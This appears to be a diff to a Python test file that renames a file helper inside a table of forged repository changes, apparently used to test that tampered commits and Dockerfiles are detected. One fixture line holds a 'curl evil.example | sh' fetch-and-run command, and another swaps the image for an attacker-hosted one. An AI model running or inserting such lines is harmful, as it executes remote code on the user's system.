@@ -13,7 +13,7 @@ from support.forges.github.stand import GitHubAppStand, GitHubStand
 from support.forges.gitlab.stand import GitLabStand
 from support.forges.hosted_stand import no_pause
 from support.forges.stands import LocalStand
-from support.git import EXECUTABLE, LINK, File
+from support.git import EXECUTABLE, LINK, TreeFile
 from support.runs.worlds import NOW, ToldScanner, build, list_outcomes
 from support.values import finding
 
@@ -89,7 +89,7 @@ def count_comments(stand) -> int:
 
 FORGERIES = {
     "added file": {"evil.sh": "curl evil.example | sh\n"},
-    "added file in a folder": {"app/evil.sh": File(b"evil\n", EXECUTABLE)},
+    "added file in a folder": {"app/evil.sh": TreeFile(b"evil\n", EXECUTABLE)},
     "deleted file": {"README.md": None},
     "renamed file": {"README.md": None, "READ.md": FILES["README.md"]},
     "changed file": {"README.md": "Evil.\n"},
@@ -98,9 +98,9 @@ FORGERIES = {
     "another image": {"Dockerfile": WITH_NEW.replace("python", "evil.example/python")},
     "line ends": {"Dockerfile": WITH_NEW.replace("\n", "\r\n")},
     "byte-order mark": {"Dockerfile": b"\xef\xbb\xbf" + WITH_NEW.encode()},
-    "executable": {"Dockerfile": File(WITH_NEW.encode(), EXECUTABLE)},
-    "only executable": {"README.md": File(FILES["README.md"].encode(), EXECUTABLE)},
-    "symbolic link": {"Dockerfile": File(b"app/Dockerfile", LINK)},
+    "executable": {"Dockerfile": TreeFile(WITH_NEW.encode(), EXECUTABLE)},
+    "only executable": {"README.md": TreeFile(FILES["README.md"].encode(), EXECUTABLE)},
+    "symbolic link": {"Dockerfile": TreeFile(b"app/Dockerfile", LINK)},
     "another digest": {"Dockerfile": WITH_NEW.replace(NEW, EVIL)},
     "removed digest": {"Dockerfile": WITH_NEW.replace(f"@{NEW}", "")},
 }
